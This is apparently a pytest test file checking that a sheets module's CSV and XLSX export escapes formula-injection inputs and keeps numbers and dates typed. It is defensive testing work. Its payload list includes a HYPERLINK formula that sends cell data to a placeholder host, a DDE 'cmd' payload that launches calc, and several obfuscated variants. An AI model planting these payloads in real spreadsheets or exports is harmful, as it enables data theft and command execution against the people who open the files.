"""Text stays text and numbers stay numbers, in every table that leaves."""

import csv
from datetime import date, datetime
from io import BytesIO, StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from hospes.core.sheets import as_typed, csv_lines, harmless, looks_like_formula, write_xlsx

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "＝1",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b@x",
    " " * 100 + "=1",
    "-",
]


def read(headings: list[str], rows: list[list[object]]) -> list[list[str]]:
    text = "".join(csv_lines(headings, rows)).removeprefix("\ufeff")  # type: ignore[arg-type]
    return list(csv.reader(StringIO(text, newline="")))


def workbook(title: str, headings: list[str], rows: list[list[object]]) -> Workbook:
    out = BytesIO()
    write_xlsx(out, title, headings, rows)  # type: ignore[arg-type]
    return load_workbook(out)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_cell_or_heading_is_a_formula_in_csv(text: str) -> None:
    (headings, row) = read([text], [[text]])

    assert headings == row == [f"'{text}"]


def test_numbers_stay_numbers() -> None:
    assert read(["n"], [[-2], [-1.5], [0]]) == [["n"], ["-2"], ["-1.5"], ["0"]]


def test_a_formula_behind_a_separator_stays_inside_its_quotes() -> None:
    assert '"a;=1"' in "".join(csv_lines(["x"], [["a;=1"]]))


@given(st.text(max_size=40))
def test_what_goes_out_comes_back_as_it_was_typed(text: str) -> None:
    assert as_typed(harmless(text)) == text
    assert not looks_like_formula(harmless(text))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula(text: str) -> None:
    book = workbook("=1+1/[x]", [text], [[text, -2, None]])

    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert [cell.data_type for cell in cells] == ["s", "s", "n"]
    assert cells[2].value == -2


def test_a_workbook_takes_text_of_any_length_and_any_letter() -> None:
    book = workbook("", ["x"], [["\x00\x1f😀" + "x" * 40_000]])

    assert str(book.active["A2"].value).startswith("😀x")


def test_the_name_of_a_sheet_is_no_formula_either() -> None:
    assert workbook("=@+1 list", ["x"], []).sheetnames == ["1 list"]


def test_days_and_numbers_are_days_and_numbers_in_a_workbook() -> None:
    book = workbook("x", ["day", "number", "part"], [[date(2027, 5, 1), -2, -1.5]])

    cells = [(cell.value, cell.data_type) for cell in book.active[2]]
    assert cells == [(datetime(2027, 5, 1), "d"), (-2, "n"), (-1.5, "n")]
